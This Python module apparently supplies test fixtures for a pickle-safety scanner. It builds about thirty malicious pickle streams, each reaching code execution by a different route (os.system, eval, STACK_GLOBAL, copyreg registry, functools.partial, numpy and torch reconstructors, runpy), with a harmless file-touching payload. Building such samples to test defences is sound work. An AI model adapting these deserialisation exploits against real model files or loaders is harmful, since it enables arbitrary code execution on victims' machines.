"""Pickles that run a command when Python's own machine reads them, each by another way in. None of them harms.

PICKLES["eval"](path)   a pickle that makes the file `path` when it is run
"""

from __future__ import annotations

import copyreg
import pickle
import struct
from collections.abc import Callable
from pathlib import Path

Payload = Callable[[Path], bytes]


def text(value: str) -> bytes:
    """A text as an opcode pushes it."""
    data = value.encode()
    return b"X" + struct.pack("<I", len(data)) + data


def name(full: str) -> bytes:
    module, _, rest = full.rpartition(".")
    return f"c{module}\n{rest}\n".encode()


def reduce(maker: bytes, *args: bytes) -> bytes:
    return maker + b"(" + b"".join(args) + b"tR"


def touch(path: Path) -> bytes:
    return text(f"touch {path}")


def code(path: Path) -> bytes:
    return text(f"open({str(path)!r}, 'w').close()")


def run(path: Path) -> bytes:
    """The plainest of them, to be put inside of others."""
    return reduce(name("posix.system"), touch(path))


def ended(data: bytes) -> bytes:
    return b"\x80\x02" + data + b"."


class System:
    """How the standard library pickles it."""

    def __init__(self, path: Path) -> None:
        self.path = path

    def __reduce__(self) -> tuple[object, ...]:
        import os

        return os.system, (f"touch {self.path}",)


def registered(path: Path) -> bytes:
    """The extension registry gives a function a number, and the pickle has the number only."""
    if ("builtins", "eval") not in copyreg._extension_registry:  # type: ignore[attr-defined]
        copyreg.add_extension("builtins", "eval", 0xEE)
    return ended(b"\x82\xee(" + code(path) + b"tR")


STATE = b"}" + text("x")  # a dictionary that is waiting for its first value

PICKLES: dict[str, Payload] = {
    "os_system": lambda path: pickle.dumps(System(path), 2),
    "os_system_protocol_0": lambda path: pickle.dumps(System(path), 0),
    "os_system_protocol_5": lambda path: pickle.dumps(System(path), 5),
    "eval": lambda path: ended(reduce(name("builtins.eval"), code(path))),
    "python_2_eval": lambda path: ended(reduce(name("__builtin__.eval"), code(path))),
    "exec": lambda path: ended(reduce(name("builtins.exec"), code(path))),
    "import_through_getattr": lambda path: ended(
        reduce(
            reduce(name("builtins.getattr"), reduce(name("builtins.__import__"), text("os")), text("system")),
            touch(path),
        )
    ),
    "getattr_of_a_harmless_module": lambda path: ended(
        reduce(reduce(name("operator.attrgetter"), text("get")), name("collections.OrderedDict")) + b"0" + run(path)
    ),
    "stack_global": lambda path: b"\x80\x04" + text("posix") + text("system") + b"\x93(" + touch(path) + b"tR.",
    "stack_global_with_dots": lambda path: (
        b"\x80\x04" + text("torch.serialization") + text("os.system") + b"\x93(" + touch(path) + b"tR."
    ),
    "inst": lambda path: ended(b"(" + touch(path) + b"iposix\nsystem\n"),
    "obj": lambda path: ended(b"(" + name("subprocess.Popen") + b"(" + text("touch") + text(str(path)) + b"lo"),
    "newobj_ex": lambda path: (
        b"\x80\x04" + name("subprocess.Popen") + b"(" + text("touch") + text(str(path)) + b"l\x85}\x92."
    ),
    "registry": registered,
    "partial": lambda path: ended(
        reduce(reduce(name("functools.partial"), name("posix.system"), touch(path)), b"") + b"0N"
    ),
    "methodcaller": lambda path: ended(
        reduce(reduce(name("operator.methodcaller"), text("system"), touch(path)), name("posix.__loader__"))
        + b"0"
        + run(path)
    ),
    "reconstructor": lambda path: ended(
        reduce(name("copyreg._reconstructor"), name("builtins.object"), name("builtins.object"), b"N")
        + b"0"
        + run(path)
    ),
    "default_factory": lambda path: ended(
        reduce(name("collections.defaultdict"), reduce(name("functools.partial"), name("posix.system"), touch(path)))
        + b"0"
        + run(path)
    ),
    "in_a_state": lambda path: ended(
        name("collections.OrderedDict") + b")R" + STATE + b"(" + b"}" + text("y") + b"(" + run(path) + b"ls" + b"tsb"
    ),
    "set_state": lambda path: ended(
        # a plain exception's state sets attributes, then one that is called as its `__setstate__`
        name("argparse.Namespace")
        + b")\x81"
        + STATE[:1]
        + text("__setstate__")
        + name("posix.system")
        + b"sb"
        + touch(path)
        + b"b"
    ),
    "in_a_key": lambda path: ended(b"}" + run(path) + text("value") + b"s"),
    "in_the_memo": lambda path: ended(run(path) + b"q\x010h\x01"),
    "numpy_reconstruct": lambda path: ended(
        reduce(name("numpy.core.multiarray._reconstruct"), name("numpy.ndarray"), b"K\x00\x85", text("b"))
        + b"0"
        + run(path)
    ),
    "numpy_subtype": lambda path: ended(
        reduce(
            name("numpy.core.multiarray._reconstruct"),
            reduce(name("builtins.eval"), code(path)),
            b"K\x00\x85",
            text("b"),
        )
    ),
    "torch_rebuild_from_type": lambda path: ended(
        reduce(
            name("torch._tensor._rebuild_from_type_v2"),
            name("posix.system"),
            name("torch.Tensor"),
            touch(path) + b"\x85",
            b"}",
        )
    ),
    "torch_hub": lambda path: ended(reduce(name("torch.hub.load"), text("x/y"), text("z")) + b"0" + run(path)),
    "run_string": lambda path: ended(reduce(name("cProfile.run"), code(path))),
    "interpreter": lambda path: ended(
        reduce(name("runpy._run_code"), reduce(name("builtins.compile"), code(path), text("f"), text("exec")), b"}")
    ),
}

# Those of the above that Python's own machine runs to the marker, here and now: the others need a version, a package
# or a reader that is not in this test.
CERTAIN = tuple(
    PICKLES[key]
    for key in (
        "os_system", "os_system_protocol_0", "os_system_protocol_5", "eval", "exec", "import_through_getattr",
        "stack_global", "inst", "registry", "in_a_state", "in_the_memo", "numpy_subtype", "torch_rebuild_from_type",
        "stack_global_with_dots", "set_state", "default_factory", "run_string", "interpreter", "python_2_eval",
    )
)  # fmt: skip
